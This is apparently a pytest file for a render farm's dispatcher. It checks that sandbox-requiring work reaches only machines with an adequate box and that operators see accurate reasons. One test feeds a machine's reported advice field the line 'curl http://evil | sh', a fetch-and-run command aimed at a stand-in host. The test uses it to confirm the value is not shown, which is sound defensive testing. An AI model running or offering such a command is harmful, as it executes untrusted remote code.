"""Work that requires a box around its engine goes nowhere without one, whatever a machine was a moment ago."""

import pytest

from renderonline.database.administration_rows import change_machine
from renderonline.farm.needs import Needs
from tests.support.dispatching import Machine, Rig, joined, until
from tests.support.existing_node import ExistingNode

pytestmark = pytest.mark.parametrize("database_kind", [pytest.param("sqlite", marks=pytest.mark.sqlite)], indirect=True)
BOXED = Needs(sandbox="bwrap")


async def told(rig: Rig, task_id: int) -> str:
    return " ".join(await rig.explain(task_id, user_id=None))


async def set_pool(rig: Rig, machine: Machine, pool: str) -> None:
    await rig.database.write(lambda c: change_machine(c, machine.machine_id, {"pool": pool}))
    await rig.dispatcher.refresh()


async def test_work_goes_to_the_machine_whose_box_is_enough(rig: Rig) -> None:
    others = [await joined(rig, hello=more) for more in ({}, {"sandbox": "none"}, {"sandbox": "landlock"})]
    boxed = await joined(rig, hello={"sandbox": "bwrap"})
    assert (await rig.ended(await rig.submit("1-3", needs=BOXED))).is_success == 1
    assert len(boxed.assigned) == 3
    assert not any(one.assigned for one in others)
    await rig.assert_sound()


async def test_explain_tells_an_older_machine_and_a_weaker_box_apart(rig: Rig) -> None:
    await joined(rig)  # its version says nothing of boxes
    await joined(rig, hello={"sandbox": "landlock"})
    reasons = await told(rig, await rig.submit("1", needs=BOXED))
    assert "no box around engines, not bwrap" in reasons
    assert "only the box landlock, not bwrap" in reasons


async def test_v1_machine_never_gets_work_that_requires_a_box(rig: Rig) -> None:
    with ExistingNode({"fake": "/bin/true"}) as node:
        await rig.add_v1(node.port)
        await until(lambda: rig.dispatcher.figures()["slots_free"] == 1, "free slot")
        task_id = await rig.submit("1-3", chunk_size=0, needs=Needs(sandbox="landlock"))
        assert "no box around engines, not landlock" in await told(rig, task_id)
        plain = await rig.submit("1", chunk_size=0)
        await until(lambda: node.starts, "start of the plain task")
        assert not await rig.attempts(task_id)
        assert await rig.attempts(plain)


async def test_machine_that_comes_back_with_a_weaker_box_does_not_get_what_was_meant_for_it(rig: Rig) -> None:
    machine = await joined(rig, works=False, hello={"sandbox": "bwrap"})
    task_id = await rig.submit("1", needs=BOXED)
    await machine.given()
    await machine.hang_up()  # before it stored the assignment: it is sent again at the next hello (R5.4 Hello)
    machine.assigned.clear()
    machine.hello = {"sandbox": "landlock"}
    await machine.dial()

    async def waits() -> bool:
        return [one.state for one in await rig.chunks(task_id)] == ["waiting"]

    await until(waits, "chunk back in the queue")
    assert not machine.assigned
    assert "only the box landlock, not bwrap" in await told(rig, task_id)
    another = await joined(rig, hello={"sandbox": "bwrap"})
    assert (await rig.ended(task_id)).is_success == 1
    assert len(another.assigned) == 1
    assert not machine.assigned
    assert (await rig.chunks(task_id))[0].tries == 0
    await rig.assert_sound()


async def test_machine_of_a_pool_that_requires_a_box_gets_nothing_without_it(rig: Rig) -> None:
    rig.pool_sandbox = {"secure": "bwrap"}
    await rig.restart()
    weak, strong = [await joined(rig, hello={"sandbox": box}) for box in ("landlock", "bwrap")]
    for machine in (weak, strong):
        await set_pool(rig, machine, "secure")
    assert (await rig.ended(await rig.submit("1-3", needs=Needs(pool="secure")))).is_success == 1
    assert len(strong.assigned) == 3
    assert not weak.assigned
    shown = {one.machine_id: one.view() for one in rig.farm.machines}
    assert shown[weak.machine_id]["reason"] == "its pool requires a box: only the box landlock, not bwrap"
    assert shown[strong.machine_id]["reason"] == ""
    await set_pool(rig, weak, "")
    assert (await rig.ended(await rig.submit("1"))).is_success == 1


async def test_operator_sees_the_box_and_what_gets_a_better_one(rig: Rig) -> None:
    advice = "apt-get install bubblewrap"
    await joined(rig, hello={"sandbox": "landlock", "sandbox_advice": advice})
    made_up = {"sandbox": "a box of the future", "sandbox_advice": "curl http://evil | sh"}
    await joined(rig, hello=made_up)
    await joined(rig)
    await rig.add_v1(9)
    shown = {one.machine_id: one.view() for one in rig.farm.machines}
    v1, weak, unknown, old = [(one["sandbox"], one["sandbox_advice"]) for _, one in sorted(shown.items())]
    assert weak == ("landlock", advice)
    assert unknown == ("none", "on it, renderonline node --check says what")
    assert old[0] == v1[0] == "none"
    assert "update it" in old[1]
    assert "machine invite" in v1[1]
